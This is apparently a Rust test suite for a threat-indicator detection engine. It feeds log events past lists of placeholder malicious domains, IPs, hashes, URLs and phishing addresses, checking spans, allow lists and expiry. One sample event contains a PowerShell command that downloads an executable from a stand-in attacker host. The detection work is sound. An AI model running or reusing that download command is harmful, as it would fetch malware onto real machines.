//! Events against indicators: spans, allow lists, expiry, replacement.

use super::{NOW, add, spec, store_of, watch_of};
use crate::support::event;
use base_core::{ContentFile, Lang, ManualClock};
use engine_detect::Detection;
use engine_detect::indicators::load::Format;
use engine_detect::indicators::{Allow, Builder, IndicatorStore, IndicatorWatch, ListSpec};
use std::sync::Arc;

fn observe(watch: &mut IndicatorWatch, json: &str) -> Vec<Detection> {
    let mut out = Vec::new();
    watch.observe(&event(1, NOW.as_secs(), json), &mut out);
    out
}

/// What was found: field, the exact bytes, the entry, the kind.
fn seen(detections: &[Detection]) -> Vec<(String, String, String, String)> {
    let matched = detections.iter().flat_map(|d| &d.matched);
    let mut all: Vec<_> = matched
        .map(|m| {
            let (from, to) = m.span.expect("a span");
            (m.field.clone(), m.value[from..to].to_owned(), m.pattern.clone(), m.op.clone())
        })
        .collect();
    all.sort();
    all
}

fn one(field: &str, span: &str, pattern: &str, op: &str) -> Vec<(String, String, String, String)> {
    vec![(field.into(), span.into(), pattern.into(), op.into())]
}

const SHA256: &str = "ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c";
const MD5: &str = "5d8129be965fab8115eca34fc84bd7f0";

#[test]
fn a_request_whose_host_and_path_are_apart_is_a_url() {
    let mut watch = watch_of("http://bad.example/drop/a.exe");
    let json = r#"{"destination.domain":"BAD.example","url.original":"/drop/a.exe"}"#;
    let whole = "BAD.example/drop/a.exe";
    assert_eq!(
        seen(&observe(&mut watch, json)),
        one("url.original", whole, "http://bad.example/drop/a.exe", "indicator-url")
    );
    assert!(observe(&mut watch, r#"{"destination.domain":"good.example","url.original":"/drop/a.exe"}"#).is_empty());
}

#[test]
fn a_rendered_message_is_looked_at_only_when_it_says_more_than_the_fields() {
    let mut watch = watch_of("evil.com");
    let message = format!("Dns query:\r\n{}QueryName: evil.com", "RuleName: -\r\n".repeat(20));
    let alone = serde_json::json!({ "Message": message }).to_string();
    assert_eq!(observe(&mut watch, &alone).len(), 1);
    let repeated = serde_json::json!({ "Message": message, "UtcTime": "2026-01-01 00:00:00", "QueryName": "evil.com" });
    assert_eq!(
        seen(&observe(&mut watch, &repeated.to_string())),
        one("QueryName", "evil.com", "evil.com", "indicator-domain")
    );
}

#[test]
fn names_with_accents_are_found_in_both_forms() {
    let mut watch = watch_of("Bücher.example");
    for (json, span) in [
        (r#"{"q":"shop.bücher.example"}"#, "bücher.example"),
        (r#"{"q":"shop.xn--bcher-kva.example"}"#, "xn--bcher-kva.example"),
    ] {
        assert_eq!(seen(&observe(&mut watch, json)), one("q", span, span, "indicator-domain"));
    }
    assert!(observe(&mut watch, r#"{"q":"übücher.example"}"#).is_empty());
}

fn list() -> String {
    format!(
        "evil.com\n198.51.100.7\n203.0.113.0/24\n2001:db8:bad::/48\n2001:db8::66\nhxxps://bad.example/drop/a.exe\n\
         {SHA256}\n{MD5}\n2b999e7db890cc77f0098a091de756a1803a3c2b\nboss@phish.example\nshort.example/x?y=1\n"
    )
}

#[test]
fn every_kind_is_found_with_its_exact_span() {
    let mut watch = watch_of(&list());
    let mut check = |json: &str, wanted| assert_eq!(seen(&observe(&mut watch, json)), wanted, "{json}");
    check(r#"{"QueryName":"a.b.Evil.COM"}"#, one("QueryName", "Evil.COM", "evil.com", "indicator-domain"));
    check(r#"{"q":"evil.com."}"#, one("q", "evil.com", "evil.com", "indicator-domain"));
    check(
        r#"{"DestinationIp":"198.51.100.7"}"#,
        one("DestinationIp", "198.51.100.7", "198.51.100.7", "indicator-address"),
    );
    check(r#"{"m":"to 203.0.113.9:443, ok"}"#, one("m", "203.0.113.9", "203.0.113.0/24", "indicator-network"));
    check(r#"{"r":"::ffff:198.51.100.7;"}"#, one("r", "198.51.100.7", "198.51.100.7", "indicator-address"));
    check(r#"{"ip":"2001:DB8:0:0:0:0:0:66"}"#, one("ip", "2001:DB8:0:0:0:0:0:66", "2001:db8::66", "indicator-address"));
    check(
        r#"{"ip":"[2001:db8:bad:1::5]:443"}"#,
        one("ip", "2001:db8:bad:1::5", "2001:db8:bad::/48", "indicator-network"),
    );
    let hashes = format!(
        r#"{{"Hashes":"SHA1=0000000000000000000000000000000000000000,MD5={},IMPHASH={MD5}"}}"#,
        MD5.to_uppercase()
    );
    check(&hashes, one("Hashes", &MD5.to_uppercase(), MD5, "indicator-md5"));
    check(&format!(r#"{{"h":"{SHA256}"}}"#), one("h", SHA256, SHA256, "indicator-sha256"));
    check(
        r#"{"CommandLine":"powershell -c \"iwr 'https://BAD.example:443/drop/a.exe' -o x\""}"#,
        one("CommandLine", "https://BAD.example:443/drop/a.exe", "https://bad.example/drop/a.exe", "indicator-url"),
    );
    check(
        r#"{"u":"see https://bad.example/drop/a.exe."}"#,
        one("u", "https://bad.example/drop/a.exe", "https://bad.example/drop/a.exe", "indicator-url"),
    );
    check(
        r#"{"u":"http://short.example/x?y=1"}"#,
        one("u", "http://short.example/x?y=1", "short.example/x?y=1", "indicator-url"),
    );
    check(
        r#"{"u":"short.example/x?y=1#z"}"#,
        one("u", "short.example/x?y=1#z", "short.example/x?y=1", "indicator-url"),
    );
    check(
        r#"{"from":"<Boss@Phish.example>"}"#,
        one("from", "Boss@Phish.example", "boss@phish.example", "indicator-mail"),
    );
    check(r#"{"ips":["192.0.2.1","198.51.100.7"]}"#, one("ips", "198.51.100.7", "198.51.100.7", "indicator-address"));
}

#[test]
fn what_only_looks_alike_is_not_found() {
    let mut watch = watch_of(&list());
    for json in [
        r#"{"q":"notevil.com"}"#,
        r#"{"q":"evil.com.vn"}"#,
        r#"{"q":"evil.community"}"#,
        r#"{"f":"C:\\tools\\evil.com"}"#,
        r#"{"f":"/srv/evil.com/index.html"}"#,
        r#"{"m":"evil.com@good.example"}"#,
        r#"{"ip":"198.51.100.70"}"#,
        r#"{"ip":"1198.51.100.7"}"#,
        r#"{"FileVersion":"198.51.100.7"}"#,
        r#"{"u":"https://bad.example/drop/a.exe2"}"#,
        r#"{"u":"http://bad.example/drop/a.exe"}"#,
        r#"{"u":"https://bad.example/Drop/a.exe"}"#,
        r#"{"from":"aboss@phish.example"}"#,
        r#"{"from":"boss@phish.example.vn"}"#,
        r#"{"t":"12:34:56.789","n":1.5,"x":null}"#,
    ] {
        assert_eq!(seen(&observe(&mut watch, json)), [], "{json}");
    }
    let imphash = format!(r#"{{"Imphash":"{MD5}","blob":"{MD5}ab"}}"#);
    assert_eq!(seen(&observe(&mut watch, &imphash)), []);
}

#[test]
fn a_detection_says_what_an_alert_needs() {
    let mut builder = Builder::new();
    let listed = ListSpec { source: Some("NCSC".into()), confidence: Some(80), ..spec("national") };
    add(
        &mut builder,
        listed,
        Format::Csv,
        "value,first_seen,reference\nevil.com,2026-01-02,Report 7\n198.51.100.7,,\n",
    );
    add(&mut builder, spec("own"), Format::Text, "evil.com");
    let store = IndicatorStore::new(ManualClock::at(NOW));
    store.replace(Arc::new(builder.build()));
    let mut watch = IndicatorWatch::new(store);
    let json = r#"{"host.name":"may-01","QueryName":"www.evil.com","DestinationIp":"198.51.100.7","unit":"so-tttt"}"#;
    let found = observe(&mut watch, json);
    let rules: Vec<&str> = found.iter().map(|d| &*d.rule.id).collect();
    assert_eq!(rules, ["indicator-national", "indicator-own"]);
    let first = &found[0];
    assert_eq!(first.matched.len(), 2);
    assert_eq!((first.events.len(), first.count), (1, 1));
    assert!(first.unit.is_some() && first.rule.techniques().next().is_some());
    let again = observe(&mut watch, json);
    assert_eq!(first.key, again[0].key, "a replay gives the same key");
    let event = event(1, NOW.as_secs(), json);
    for lang in Lang::ALL {
        let texts = first.texts(lang, Some(&event));
        assert!(texts.what.contains("evil.com") && texts.what.contains("Report 7"), "{}", texts.what);
        assert!(texts.what.contains("may-01") && !texts.do_now.is_empty());
    }
    let tally = watch.take_tally();
    assert_eq!(tally.events, 2);
    assert_eq!(tally.lists.iter().map(|l| l.events).collect::<Vec<_>>(), [2, 2]);
}

#[test]
fn what_is_allowed_is_counted_and_not_told() {
    let store = store_of("8.8.8.8\n10.1.2.3\nevil.com\nsub.own.gov.vn\nd41d8cd98f00b204e9800998ecf8427e\n");
    let text = "8.8.8.8\n10.0.0.0/8\nevil.com\n*.own.gov.vn\nd41d8cd98f00b204e9800998ecf8427e\n";
    let (allow, errors) = Allow::load(&[ContentFile { path: "a.txt".into(), text: text.into() }]);
    assert!(errors.is_empty());
    let mut watch = IndicatorWatch::new(Arc::clone(&store));
    let json = r#"{"a":"8.8.8.8","b":"10.1.2.3","c":"x.evil.com","d":"a.sub.own.gov.vn","e":"d41d8cd98f00b204e9800998ecf8427e"}"#;
    assert_eq!(seen(&observe(&mut watch, json)).len(), 5);
    store.replace_allow(Arc::new(allow));
    assert!(observe(&mut watch, json).is_empty());
    assert_eq!(watch.take_tally().allowed, 5);
}

#[test]
fn lists_are_replaced_while_events_go_on_and_expire_by_the_clock() {
    let clock = ManualClock::at(NOW);
    let store = IndicatorStore::new(clock.clone());
    let mut watch = IndicatorWatch::new(Arc::clone(&store));
    let json = r#"{"a":"evil.com","b":"bad.example"}"#;
    assert!(observe(&mut watch, json).is_empty());

    let mut builder = Builder::new();
    let short = ListSpec { lifetime_days: Some(2), ..spec("short") };
    add(&mut builder, short, Format::Text, "evil.com");
    add(&mut builder, spec("long"), Format::Text, "bad.example\n198.51.100.0/24");
    store.replace(Arc::new(builder.build()));
    assert_eq!(observe(&mut watch, json).len(), 2);

    // What was received after the end is not told, even by a watch that still has the list.
    let mut later = event(1, NOW.as_secs(), json);
    later.received = NOW.plus_secs(3 * 86_400);
    let mut out = Vec::new();
    watch.observe(&later, &mut out);
    assert_eq!(out.iter().map(|d| &*d.rule.id).collect::<Vec<_>>(), ["indicator-long"]);
    assert_eq!(watch.take_tally().expired, 1);

    clock.advance_secs(3 * 86_400);
    assert_eq!((store.counts().0.total(), store.counts().1), (3, 1));
    assert_eq!(store.sweep(), 1);
    assert_eq!((store.counts().0.total(), store.counts().1), (2, 0));
    assert_eq!(observe(&mut watch, json).len(), 1);

    let mut renewed = store.indicators().reopened(&["long"], NOW);
    add(&mut renewed, spec("long"), Format::Text, "evil.com");
    store.replace(Arc::new(renewed.build()));
    assert_eq!(seen(&observe(&mut watch, json)), one("a", "evil.com", "evil.com", "indicator-domain"));
    assert_eq!(store.indicators().lists().count(), 2, "a list that is loaded anew is the same list");
}

#[test]
fn the_raw_text_of_what_nothing_could_read_is_looked_at() {
    let mut watch = watch_of("198.51.100.7");
    let mut strange = event(1, NOW.as_secs(), "{}");
    strange.raw = b"\xFF\xFE kernel: drop SRC=198.51.100.7 DST=10.0.0.1".as_slice().into();
    let mut out = Vec::new();
    watch.observe(&strange, &mut out);
    assert!(out.is_empty(), "what was read is in its fields");
    strange.marks.unparsed = true;
    watch.observe(&strange, &mut out);
    assert_eq!(seen(&out), one("", "198.51.100.7", "198.51.100.7", "indicator-address"));
}

#[test]
fn long_and_hostile_values_take_linear_time() {
    let mut watch = watch_of(&list());
    let long = |part: &str| part.repeat(2_000_000 / part.len());
    for part in
        ["a.", ".", ":", "a:", "::1 ", "evil.com", "http://a.com/", "=a.com/", "0123456789abcdef", "@a.com", "'a.com/'"]
    {
        let json = serde_json::json!({ "v": long(part), "w": "evil.com" }).to_string();
        let found = observe(&mut watch, &json);
        assert!(found.iter().flat_map(|d| &d.matched).any(|m| m.field == "w" || m.field == "v"), "{part}");
        assert!(found.iter().all(|d| d.matched.len() <= 256));
    }
}
